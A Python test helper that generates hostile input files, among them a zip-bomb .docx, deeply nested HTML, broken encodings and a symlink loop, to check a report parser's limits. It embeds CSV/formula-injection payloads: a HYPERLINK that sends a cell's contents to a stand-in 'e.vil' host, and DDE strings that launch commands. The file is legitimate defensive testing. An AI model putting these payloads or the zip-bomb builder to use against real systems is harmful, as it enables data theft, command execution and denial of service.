"""Builds the hostile corpus of issue 16 in a folder: each broken or malicious file beside good
reports (copied from the project's own demo corpus), at sizes scaled down where the bound makes
the point. ``EXPECTED`` says what each file must give: an error code, or a warning text on a
report that goes through.
"""
from __future__ import annotations

import io
import os
import shutil
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "corpora" / "demo"
GOOD = [DEMO / "2021" / "00007.txt", DEMO / "2021" / "00010.txt", DEMO / "2021" / "00045.html"]

#: Options the hostile runs use: the bounds scaled down so the cases stay small and fast.
MAX_MB = 2  # a .docx may inflate to 20 MB
TIMEOUT = 60  # generous: shared CI machines are slow, and no hostile case here needs the time bound
MAX_MEMORY = 900

#: file name -> ("error", code) or ("warning", text in a warning of the parsed report).
EXPECTED: dict[str, tuple[str, str]] = {
    "bomb.docx": ("error", "too_large"),
    "many_members.docx": ("error", "too_large"),
    "deep.html": ("error", "too_large"),
    "bom_garbage.txt": ("error", "unreadable"),
    "odd_utf16.txt": ("error", "unreadable"),
    "bad_bytes.txt": ("warning", "invalid byte sequence(s) replaced by U+FFFD at byte offsets"),
    "cut_mid_char.txt": ("warning", "invalid byte sequence(s) replaced"),
    "gb18030_tail.txt": ("warning", "mixed encodings"),
    "junk_date.txt": ("warning", "is not a date; ignored"),
    "formula.txt": ("warning", ""),
}
#: Payloads planted in formula.txt; none may reach a spreadsheet as a formula.
FORMULAS = ('=HYPERLINK("http://e.vil/?x="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0")


def good_text() -> str:
    return GOOD[0].read_text(encoding="utf-8")


def docx_bytes(paragraphs: list[str]) -> bytes:
    import docx

    document = docx.Document()
    for p in paragraphs:
        document.add_paragraph(p)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def zip_bomb_docx(inflated_mb: int) -> bytes:
    """A valid .docx whose document.xml inflates to ``inflated_mb`` MB (whitespace padding inside the
    body deflates ~1000:1), as the 1.9 MB docx that inflated to 600 MB did."""
    base = docx_bytes(["某县2021年政府信息公开工作年度报告"])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "word/document.xml":
                pad = b" " * (inflated_mb * 2**20)
                data = data.replace(b"<w:body>", b"<w:body>" + pad, 1)
            dst.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=1)
    return out.getvalue()


def many_members_docx(n: int) -> bytes:
    base = docx_bytes(["某县2021年政府信息公开工作年度报告"])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        for i in range(n):
            dst.writestr(f"word/padding/part{i}.xml", b"")
    return out.getvalue()


def make_hostile(folder: Path, *, with_unreadable: bool = True, with_loop: bool = True) -> dict[str, tuple[str, str]]:
    """Write the hostile corpus into ``folder``; returns what each hostile file must give."""
    folder.mkdir(parents=True, exist_ok=True)
    expected = dict(EXPECTED)
    for g in GOOD:
        shutil.copy2(g, folder / f"good_{g.name}")
    report = good_text()
    head, tail = report.encode("utf-8")[:3000], report.encode("utf-8")[3000:]
    (folder / "bomb.docx").write_bytes(zip_bomb_docx(60))
    (folder / "many_members.docx").write_bytes(many_members_docx(2500))
    depth = 100_000  # 1.1 MB: under --max-mb 2, so the nesting bound is the one that refuses it
    (folder / "deep.html").write_text("<html><body>" + "<div>" * depth + "<p>某县2021年政府信息公开工作年度报告</p>"
                                      + "</div>" * depth + "</body></html>", encoding="utf-8")
    (folder / "bom_garbage.txt").write_bytes(b"\xef\xbb\xbf\x88")
    (folder / "odd_utf16.txt").write_bytes(b"\xff\xfe0")
    (folder / "bad_bytes.txt").write_bytes(head[:1500] + b"\xff\xc0" + head[1500:] + b"\x80" + tail)
    cut = report.encode("utf-8")
    (folder / "cut_mid_char.txt").write_bytes(cut[: len(cut) - 1] if (cut[-1] & 0xC0) == 0x80 else cut[:-2])
    lines = report.split("\n")
    half = len(lines) // 2
    (folder / "gb18030_tail.txt").write_bytes("\n".join(lines[:half]).encode("utf-8") + b"\n"
                                              + "\n".join(lines[half:]).encode("gb18030"))
    (folder / "junk_date.txt").write_text("发布时间：其他组\n成文日期：无\n" + report, encoding="utf-8")
    planted = report.replace("一是", FORMULAS[1] + "一是", 1)
    (folder / "formula.txt").write_text("\n".join([f"{FORMULAS[0]}某县2021年政府信息公开工作年度报告", FORMULAS[2],
                                                  FORMULAS[3], planted]), encoding="utf-8")
    if with_unreadable:
        locked = folder / "locked.txt"
        locked.write_text(report, encoding="utf-8")
        locked.chmod(0)
        expected["locked.txt"] = ("error", "unreadable")
    if with_loop:
        os.symlink(".", folder / "loop")
        expected["loop"] = ("error", "symlink_loop")
    return expected
